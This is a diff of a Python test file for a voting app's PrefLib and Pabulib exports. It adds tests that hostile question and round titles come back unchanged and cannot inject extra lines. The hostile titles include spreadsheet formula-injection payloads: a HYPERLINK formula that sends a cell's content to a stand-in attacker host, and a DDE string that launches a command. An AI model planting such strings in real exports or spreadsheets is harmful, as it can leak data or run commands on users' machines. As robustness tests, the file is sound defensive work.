@@ -104,10 +104,41 @@ def test_preflib_tools_read_the_ballots(decided: Round) -> None:
     assert approvals.total() == sum(len(vote.approved) for vote in votes)
 
 
-def test_titles_with_separators_are_quoted(decided: Round) -> None:
-    Question.objects.filter(round=decided, external_id="3").update(title='One; "two"')
+HOSTILE = [
+    'One; "two"',
+    '=HYPERLINK("http://evil.example/?"&A1;"result")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1;-1",
+    "'=1",
+    "META",
+    "# NUMBER VOTERS: 9",
+    '"',
+    "1: {1},{}",
+    "ü, \u202e 🙂",
+]
+
+
+def test_hostile_titles_come_back_to_the_letter(decided: Round) -> None:
+    asked = list(decided.questions.order_by("pk"))
+    for question, title in zip(asked, HOSTILE, strict=False):
+        question.title = title
+    Question.objects.bulk_update(asked, ["title"])
+
     election = read(io.BytesIO(exports.pabulib_text(decided).encode()))
-    assert next(p.name for p in election.projects if p.id == "3") == 'One; "two"'
+    assert {p.id: p.name for p in election.projects} == {q.external_id: q.title for q in asked}
+    instance = CategoricalInstance()
+    instance.parse_str(exports.preflib_text(decided), "cat", "assen.cat")
+    assert list(instance.alternatives_name.values()) == [q.title for q in asked]
+    assert (instance.num_voters, sum(instance.multiplicity.values())) == (84, 84)
+
+
+def test_no_text_begins_a_line_of_its_own(decided: Round) -> None:
+    before = exports.preflib_text(decided).count("\n"), exports.pabulib_text(decided).count("\n")
+    Round.objects.filter(pk=decided.pk).update(title="Two\r\n99: {1},{}\x0b\u2028lines")
+    decided.refresh_from_db()
+    after = exports.preflib_text(decided), exports.pabulib_text(decided)
+    assert tuple(text.count("\n") for text in after) == before
+    assert all(len(text.splitlines()) == text.count("\n") for text in after)
 
 
 @pytest.mark.django_db
